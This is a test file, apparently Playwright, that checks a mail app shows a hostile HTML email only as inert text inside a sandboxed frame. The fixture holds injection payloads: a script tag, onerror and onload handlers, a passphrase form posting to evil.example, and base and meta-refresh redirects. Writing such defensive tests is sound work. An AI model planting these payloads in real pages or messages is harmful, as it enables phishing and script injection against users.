/**
 * HTML of a hostile letter: shown on request only, and nothing in it runs, loads or leads anywhere.
 *
 * Taking the letter apart (in a document without a window) makes the browser report each style, handler and base
 * that the page's policy blocks there. Such a report is expected here; any other complaint is still a failure.
 */
import { either, expect, looksIntoFrame, policyRefusal, test } from './host.ts';
import { AppPage } from './models/app-page.ts';
import { policy } from './models/letters.ts';

const hostile = [
  'From: Ada Finder <ada@example.net>',
  'To: security@harbour.example',
  'Subject: Report with HTML',
  'Message-ID: <html@example.net>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<h2>Overflow in the parser</h2>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0">Words of the report</p>',
  '<script>document.body.dataset.ran = "yes"</script>',
  '<img src="https://tracker.example/pixel.gif" onerror="document.body.dataset.ran = 1">',
  '<a href="https://evil.example/login">sign in</a>',
  '<form action="https://evil.example"><input name="passphrase"><button>Unlock</button></form>',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '',
].join('\r\n');

test.use({ expectedComplaint: either(policyRefusal, looksIntoFrame) });

test('hostile HTML is words in a closed frame', async ({ host, page }) => {
  const app = new AppPage(page);
  await app.firstRun();
  await app.drop({ name: 'SECURITY.md', text: policy });
  await page.getByLabel('Project name').fill('Harbour');
  await page.getByRole('button', { name: 'Add project' }).click();
  await expect(page.getByRole('heading', { name: 'Harbour' })).toBeVisible();
  await app.press('g', 'q');
  await app.drop({ name: 'html.eml', text: hostile });
  await app.rows.first().click();

  await expect(page.getByRole('article')).toContainText('Words of the report');
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Show HTML' }).click();

  const frame = page.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', '');
  const inside = page.frameLocator('iframe');
  await expect(inside.getByRole('heading', { name: 'Overflow in the parser' })).toBeVisible();
  await expect(inside.getByText('Words of the report')).toBeVisible();
  await expect(inside.getByText('sign in')).toHaveAttribute('title', 'https://evil.example/login');
  await expect(
    inside.locator('script, form, input, button, iframe, svg, base, [href], [src], [onerror], body [style]'),
  ).toHaveCount(0);
  await expect(inside.locator('body')).not.toHaveAttribute('data-ran');
  const requests = await host.requests();
  expect(requests.filter((url) => !url.startsWith(host.origin) && !url.startsWith('data:'))).toEqual([]);
});
